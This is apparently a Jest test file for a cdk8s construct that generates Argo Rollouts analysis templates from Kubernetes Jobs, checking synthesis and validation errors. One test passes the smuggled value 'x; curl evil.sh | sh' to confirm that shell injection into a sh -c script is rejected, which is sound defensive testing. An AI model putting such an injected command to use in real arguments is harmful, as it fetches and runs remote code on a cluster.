import { Duration, Testing } from 'cdk8s';
import * as kplus from 'cdk8s-plus-28';
import {
  BackgroundAnalysisOptions, CanaryRollout, CanaryStep, JobAnalysis, JobAnalysisProps, RolloutWorkload, TemplateArgument, TrafficRouting,
} from '../../src';
import { conformanceBuilt, validateAnalysisTemplates, validateRollouts } from '../harness/conformance';

const smokeContainer: kplus.ContainerProps = {
  name: 'smoke',
  image: 'curlimages/curl:8.10.1',
  command: ['sh', '-c'],
  args: ['curl -fsS http://{{args.service-name}}.shop.svc:8080/healthz'],
};

function templateOf(objs: any[]): any {
  return objs.find(o => o.kind.endsWith('AnalysisTemplate'));
}

describe('JobAnalysis', () => {
  test('from a cdk8s-plus Job: its spec is the provider spec, and the Job is not an object of the chart', () => {
    const chart = Testing.chart();
    const job = new kplus.Job(chart, 'smoke-job', { containers: [smokeContainer], activeDeadline: Duration.minutes(5) });
    const smoke = new JobAnalysis(chart, 'smoke', {
      metadata: { name: 'smoke' },
      job,
      args: [TemplateArgument.required('service-name')],
      metricName: 'smoke-test',
      count: 1,
    });
    const objs = Testing.synth(chart);
    expect(objs.map(o => o.kind)).toEqual(['AnalysisTemplate']);
    const t = templateOf(objs);
    expect(t.spec.args).toEqual([{ name: 'service-name' }]);
    const metric = t.spec.metrics[0];
    expect(metric).toEqual(expect.objectContaining({ name: 'smoke-test', count: 1, failureLimit: 0, inconclusiveLimit: 0, consecutiveErrorLimit: 4 }));
    expect(metric.successCondition).toBeUndefined();
    const spec = metric.provider.job.spec;
    expect(spec.backoffLimit).toBe(0); // the library default: the first failed pod fails the measurement
    expect(spec.activeDeadlineSeconds).toBe(300);
    expect(spec.template.spec.restartPolicy).toBe('Never');
    expect(spec.template.spec.containers).toEqual([expect.objectContaining({
      name: 'smoke', image: 'curlimages/curl:8.10.1', command: ['sh', '-c'], args: ['curl -fsS http://{{args.service-name}}.shop.svc:8080/healthz'],
    })]);
    // cdk8s-plus's address label would name the Job construct, which is not synthesized
    expect(spec.template.metadata).toBeUndefined();
    expect(smoke.requiredArgs).toEqual(['service-name']);
    expect(smoke.minimumDuration?.toSeconds()).toBe(0);
    expect(smoke.inconclusiveMetricNames).toEqual([]);
    expect(smoke.quotedArgUses).toEqual([expect.objectContaining({
      argName: 'service-name', where: 'the shell script of container "smoke" of metric "smoke-test"',
    })]);
  });

  test('from containers, with backoffLimit and activeDeadline, as a ClusterAnalysisTemplate', () => {
    const chart = Testing.chart();
    new JobAnalysis(chart, 'load', {
      clusterScope: true,
      metadata: { name: 'load-test' },
      containers: [{ name: 'k6', image: 'grafana/k6:0.54.0', args: ['run', '--vus', '{{args.vus}}', '/scripts/load.js'] }],
      args: [TemplateArgument.withDefault('vus', '10')],
      backoffLimit: 1,
      activeDeadline: Duration.minutes(10),
    });
    const objs = Testing.synth(chart);
    expect(objs.map(o => o.kind)).toEqual(['ClusterAnalysisTemplate']);
    const spec = templateOf(objs).spec.metrics[0].provider.job.spec;
    expect(spec.backoffLimit).toBe(1);
    expect(spec.activeDeadlineSeconds).toBe(600);
    expect(spec.template.spec.containers[0].args).toEqual(['run', '--vus', '{{args.vus}}', '/scripts/load.js']);
    if (conformanceBuilt('rollouts-validate')) {
      expect(validateAnalysisTemplates(objs)[0].errors).toEqual([]);
    }
  });

  test('in a canary step and in a background analysis; the controller accepts the Rollouts with the template', () => {
    for (const background of [false, true]) {
      const chart = Testing.chart();
      const smoke = new JobAnalysis(chart, 'smoke', {
        metadata: { name: 'smoke' },
        containers: [smokeContainer],
        args: [TemplateArgument.required('service-name')],
        ...(background ? { interval: Duration.minutes(2) } : {}),
      });
      const analysis: BackgroundAnalysisOptions = { templates: [smoke], args: { 'service-name': 'checkout' } };
      new CanaryRollout(chart, 'checkout', {
        metadata: { name: 'checkout' },
        workload: RolloutWorkload.fromPodTemplate({ containers: [{ image: 'img', portNumber: 8080 }] }),
        trafficRouting: TrafficRouting.istio({ virtualService: 'vs' }),
        steps: [CanaryStep.setWeight(20), background ? CanaryStep.pause(Duration.minutes(10)) : CanaryStep.analysis(analysis)],
        ...(background ? { backgroundAnalysis: analysis } : {}),
      });
      const objs = Testing.synth(chart);
      const canary = objs.find(o => o.kind === 'Rollout').spec.strategy.canary;
      expect(background ? canary.analysis.templates : canary.steps[1].analysis.templates).toEqual([{ templateName: 'smoke' }]);
      if (conformanceBuilt('rollouts-validate')) {
        const [v] = validateRollouts(objs);
        expect(v.errors).toEqual([]);
        expect(v.referenced.analysisTemplates).toBe(1);
      }
    }
  });

  test('a literal Rollout arg must not carry shell syntax into a sh -c script', () => {
    const chart = Testing.chart();
    const smoke = new JobAnalysis(chart, 'smoke', { metadata: { name: 'smoke' }, containers: [smokeContainer], args: [TemplateArgument.required('service-name')] });
    new CanaryRollout(chart, 'checkout', {
      metadata: { name: 'checkout' },
      workload: RolloutWorkload.fromPodTemplate({ containers: [{ image: 'img', portNumber: 8080 }] }),
      steps: [CanaryStep.setWeight(20), CanaryStep.analysis({ templates: [smoke], args: { 'service-name': 'x; curl evil.sh | sh' } })],
    });
    expect(() => Testing.synth(chart)).toThrow('steps[1].analysis.args["service-name"] is "x; curl evil.sh | sh"; expected a value that stays inside the shell '
      + 'script of container "smoke" of metric "job" it lands in (template AnalysisTemplate "smoke", metric "job"): the controller substitutes args as raw '
      + 'text, and ";" there is shell syntax: the test would run other commands or other arguments');
  });

  describe('rejects', () => {
    const error = (props: Partial<JobAnalysisProps>, job?: (chart: any) => kplus.Job): string => {
      const chart = Testing.chart();
      try {
        new JobAnalysis(chart, 'j', { ...(job ? { job: job(chart) } : { containers: [{ image: 'alpine:3.20' }] }), ...props });
        Testing.synth(chart);
        return '';
      } catch (e) {
        return (e as Error).message;
      }
    };
    test.each<[Partial<JobAnalysisProps>, string]>([
      [{ containers: undefined }, 'job is neither job nor containers; expected exactly one of job (a cdk8s-plus Job) and containers'],
      [{ backoffLimit: -1 }, 'backoffLimit is -1; expected an integer ≥ 0'],
      [{ backoffLimit: 1.5 }, 'backoffLimit is 1.5; expected an integer ≥ 0'],
      [{ activeDeadline: Duration.millis(500) }, 'activeDeadline is 500ms; expected a whole number of seconds ≥ 1'],
      [{ metricName: 'Load Test' }, 'metricName is "Load Test"; expected at most 63 lowercase alphanumerics'],
      [{ metricName: 'load_test' }, 'metricName is "load_test"; expected no "_": the controller names each Job <AnalysisRun uid>.<metric name>.<n>'],
      [{ count: 3 }, 'interval is missing with count 3; expected an interval when count > 1 (the controller rejects the run: "interval must be specified when count > 1")'],
      [{ containers: [{ image: 'x', args: ['{{args.nope}}'] }] }, 'job is placeholder {{args.nope}}; expected a placeholder naming a declared arg'],
      [{ measurementRetention: [{ metricName: 'job', limit: 0 }] }, 'measurementRetention[0].limit is 0; expected an integer 1..2147483647'],
    ])('%# %j', (props, message) => {
      expect(error(props)).toContain(message);
    });

    test('both job and containers', () => {
      expect(error({ containers: [{ image: 'x' }] }, c => new kplus.Job(c, 'k', { containers: [{ image: 'x' }] })))
        .toContain('containers is set together with job; expected exactly one of job (a cdk8s-plus Job) and containers');
    });

    test('the controller\'s and the API server\'s rules on the Job', () => {
      expect(error({}, c => new kplus.Job(c, 'k', { containers: [{ image: 'x' }], restartPolicy: kplus.RestartPolicy.ALWAYS })))
        .toContain('job.restartPolicy is "Always"; expected Never or OnFailure (the API server refuses the Job: spec.template.spec.restartPolicy: Required value');
      expect(error({}, c => new kplus.Job(c, 'k', { containers: [{ image: 'x' }], ttlAfterFinished: Duration.seconds(0) })))
        .toContain('job.ttlAfterFinished is 0s; expected no TTL: the controller reads the finished Job to judge the measurement');
      expect(error({}, c => new kplus.Job(c, 'k', {})))
        .toContain('job is a Job without containers; expected at least one container');
      expect(error({ backoffLimit: 2 }, c => new kplus.Job(c, 'k', { containers: [{ image: 'x' }], backoffLimit: 3 })))
        .toContain('backoffLimit is 2 while the Job sets 3; expected one backoffLimit');
    });

    test('plain-JS callers passing the wrong types get a ValidationError', () => {
      const chart = Testing.chart();
      expect(() => new JobAnalysis(chart, 'a', { job: { spec: {} } } as any)).toThrow('job is {"spec":{}} (an object); expected a Job. Fix: use new kplus.Job(');
      expect(() => new JobAnalysis(chart, 'b', { containers: 'alpine' } as any)).toThrow('containers is "alpine" (a string); expected an array');
      expect(() => new JobAnalysis(chart, 'c', { containers: [{ image: 'x' }], backoffLimit: '0' } as any)).toThrow('backoffLimit is "0" (a string); expected a number');
      expect(() => new JobAnalysis(chart, 'd', { containers: [{ image: 'x' }], activeDeadline: 300 } as any)).toThrow('activeDeadline is 300 (a number); expected a Duration');
    });
  });
});
